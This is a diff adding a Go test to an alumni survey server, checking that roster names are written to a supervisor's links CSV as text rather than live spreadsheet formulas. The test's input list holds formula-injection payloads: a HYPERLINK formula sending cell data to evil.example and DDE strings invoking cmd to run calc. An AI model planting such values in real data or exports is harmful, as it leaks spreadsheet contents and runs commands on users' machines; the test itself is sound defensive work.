@@ -3,7 +3,9 @@ package server_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"strings"
@@ -503,4 +505,51 @@ func TestLinkBadInputKeepsWhatIsStored(t *testing.T) {
 		t.Errorf("the revoked link: %d %q", status, msg)
 	}
 	kept("the revoked link")
+}
+
+// TestLinksCSVNeutralisesFormulas: links made through the API for alumni whose roster rows
+// hold spreadsheet formulas (=HYPERLINK, @SUM, a tab) are written to the links CSV a
+// supervisor opens in a spreadsheet with every such cell shown as text, never as a formula.
+func TestLinksCSVNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	env := testbed.NewEnv(t, nil, nil)
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0", "\t=1+1"}
+	var rows []*survey.Respondent
+	for i, name := range hostile {
+		rows = append(rows, &survey.Respondent{RosterID: fmt.Sprintf("BTG25-%04d", i+1), Name: name, Sex: "L", BatchID: "B1", Completion: "pass"})
+	}
+	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, rows); err != nil {
+		t.Fatal(err)
+	}
+	f, _, _ := testbed.Builtin()
+	sup, err := client.NewClient(env.URL, client.WithToken(testbed.Token(t, env.Users, "sari", survey.RoleSupervisor)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	made, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour))
+	if err != nil || len(made) != len(hostile) {
+		t.Fatalf("make: %d links, %v", len(made), err)
+	}
+	var b bytes.Buffer
+	if err := survey.WriteLinksCSV(&b, "https://tracer.example", made); err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]bool{}
+	for _, row := range got[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !survey.PlainNumber(cell) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+		names[row[1]] = true
+	}
+	for _, name := range hostile {
+		if !names["'"+name] {
+			t.Errorf("name %q is not in the CSV as text ('%s): %v", name, name, names)
+		}
+	}
 }
